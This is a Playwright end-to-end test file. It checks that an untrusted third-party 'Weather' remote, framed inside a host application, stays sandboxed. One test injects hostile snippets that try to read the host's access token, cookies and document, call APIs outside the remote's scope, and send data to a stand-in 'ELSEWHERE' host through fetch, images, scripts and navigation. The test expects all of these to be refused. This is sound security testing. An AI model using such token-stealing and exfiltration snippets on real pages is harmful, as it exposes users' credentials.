import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Browser, FrameLocator, Page } from 'playwright-core';
import { desktop, launchBrowser, phone } from './support/browser.ts';
import { openAs } from './support/open-as.ts';
import { type Operator, type OutsideRemote, outsideRemote, startOperator } from './support/outside-remote.ts';
import { type Suite, startSuite } from './support/suite.ts';

/** A team whose code nobody trusts publishes the template’s remote; the operator has entered its key for the sandbox. */

let suite: Suite;
let browser: Browser;
let remote: OutsideRemote;
let operator: Operator;

before(async () => {
  remote = await outsideRemote();
  await remote.build();
  suite = await startSuite();
  operator = await startOperator(suite.siteDir, 0);
  await operator.keys('add', 'weather', await remote.key(), '/weather', '--sandbox=user/show');
  await remote.publish(operator.to);
  browser = await launchBrowser();
});
after(async () => {
  await browser?.close();
  await operator?.stop();
  await suite?.stop();
  remote?.remove();
});

const frameOf = (page: Page): FrameLocator => page.frameLocator('iframe[title="Weather"]');
const week = (page: Page) => frameOf(page).getByRole('list', { name: 'This week' });

test('its page is in a frame of the suite’s page, with chunks, addresses, back button, title and theme', async () => {
  const { page, context, errors } = await openAs(browser, suite, 'owner', desktop);
  await page.goto('/orders');
  await page.getByRole('link', { name: 'Weather', exact: true }).click();
  const { name } = JSON.parse(await page.evaluate(() => localStorage.getItem('user') ?? '{}'));
  await frameOf(page).getByText(`Good morning, ${name}.`).waitFor();
  assert.match(await page.title(), /^Weather · /);
  assert.equal(await page.locator('script[src*="/weather/"]').count(), 0);

  await frameOf(page).getByRole('button', { name: 'This week' }).click();
  await week(page).waitFor();
  assert.equal(new URL(page.url()).pathname, '/weather/week');
  const sunny = week(page).getByText('Sunny').first();
  const colour = () => sunny.evaluate((text) => getComputedStyle(text).color);
  assert.match(await colour(), /^rgba\(0, 0, 0/);
  await page.emulateMedia({ colorScheme: 'dark' });
  await frameOf(page).locator('html[data-theme="dark"]').waitFor();
  assert.match(await colour(), /^rgba\(255, 255, 255/);

  await frameOf(page).getByRole('button', { name: 'Orders', exact: true }).click();
  await page.getByRole('heading', { name: 'Order List', exact: true }).waitFor();
  await page.goBack();
  await week(page).waitFor();
  assert.deepEqual(errors, []);
  await context.close();
});

test('on a phone the frame is as high as its page, which scrolls with the suite’s', async () => {
  const { page, context } = await openAs(browser, suite, 'owner', phone);
  await page.goto('/weather/week');
  await week(page).waitFor();
  const [frame, inner] = await Promise.all([
    page.locator('iframe[title="Weather"]').evaluate(({ clientHeight }) => clientHeight),
    frameOf(page)
      .locator('html')
      .evaluate(({ scrollHeight }) => scrollHeight),
  ]);
  assert.ok(frame >= inner, `${frame} of ${inner}`);
  await context.close();
});

/** What hostile code tries; each gives `refused`, or what it got. */
const attempts = `
const attempt = async (work) => { try { const got = await work(); return 'got ' + JSON.stringify(got ?? null).slice(0, 80); } catch { return 'refused'; } };
export const attempts = (place) => ({
  document: () => attempt(() => parent.document.title),
  storage: () => attempt(() => { const token = localStorage.getItem('accessToken'); if (!token) throw new Error(); return token; }),
  cookies: () => attempt(() => document.cookie),
  api: () => attempt(async () => (await fetch(new URL('/api/user/show', 'ORIGIN'))).status),
  elsewhere: () => attempt(async () => (await fetch('ELSEWHERE/taken')).status),
  picture: () => attempt(() => new Promise((resolve, reject) => { const image = new Image(); image.onload = resolve; image.onerror = reject; image.src = 'ELSEWHERE/picture?taken'; })),
  script: () => attempt(() => new Promise((resolve, reject) => { const script = document.createElement('script'); script.onload = resolve; script.onerror = reject; script.src = 'ELSEWHERE/script.js?taken'; document.head.append(script); })),
  evaluated: () => attempt(() => new Function('return 1')()),
  top: () => attempt(() => { top.location.href = 'ELSEWHERE/top?taken'; }),
  window: () => attempt(() => { if (!open('ELSEWHERE/window?taken')) throw new Error(); }),
  otherCall: () => attempt(() => place.get('order/index')),
  otherPath: () => attempt(() => place.get('../user/show')),
  narrowing: () => attempt(() => place.post('auth/session/narrow', { calls: ['order/index'] })),
  ownCall: () => attempt(async () => (await place.get('user/show')).name.length > 0),
});
`;

test('what it tries to reach beyond its place is refused, and what its key names it gets', async () => {
  const visits: string[] = [];
  const { createServer } = await import('node:http');
  const elsewhere = createServer(({ url = '' }, response) => {
    visits.push(url);
    response.setHeader('access-control-allow-origin', '*').end('');
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  const at = elsewhere.address() as { port: number };
  remote.write(
    'src/attempts.mjs',
    attempts.replaceAll('ELSEWHERE', `http://127.0.0.1:${at.port}`).replaceAll('ORIGIN', suite.url),
  );
  remote.edit(
    'src/remote.tsx',
    'export default',
    "import { attempts } from './attempts.mjs';\nconst Hostile = ({ place }: { place: any }) => { const [said, setSaid] = React.useState(''); React.useEffect(() => { (async () => { const all: Record<string, string> = {}; for (const [name, tried] of Object.entries(attempts(place))) all[name] = await (tried as () => Promise<string>)(); setSaid(JSON.stringify(all)); })(); }, []); return <><WeatherPage place={place} /><output>{said}</output></>; };\nexport default",
  );
  remote.edit('src/remote.tsx', 'Page: WeatherPage', 'Page: Hostile');
  await remote.build();
  await remote.publish(operator.to);

  const { page, context } = await openAs(browser, suite, 'owner', desktop);
  await page.goto('/weather');
  const output = frameOf(page).locator('output');
  await output.filter({ hasText: 'ownCall' }).waitFor();
  const { ownCall, cookies, ...others } = JSON.parse((await output.textContent()) ?? '{}');
  assert.deepEqual(new Set(Object.values(others)), new Set(['refused']), JSON.stringify(others));
  assert.match(cookies, /refused|got ""/);
  assert.equal(ownCall, 'got true');
  assert.equal(new URL(page.url()).pathname, '/weather');
  assert.deepEqual(visits, []);
  await context.close();
  elsewhere.close();
});

test('a frame that leaves for another page, or throws, gives way to the build before', async () => {
  remote.edit('src/remote.tsx', 'Page: Hostile', "Page: () => { throw new Error('no good'); }");
  await remote.build();
  await remote.publish(operator.to);
  const { page, context } = await openAs(browser, suite, 'owner', desktop);
  await page.goto('/weather');
  await page.getByText('An earlier version of Weather is shown').waitFor();
  await frameOf(page)
    .getByText(/^Good morning/)
    .waitFor();
  await context.close();
});
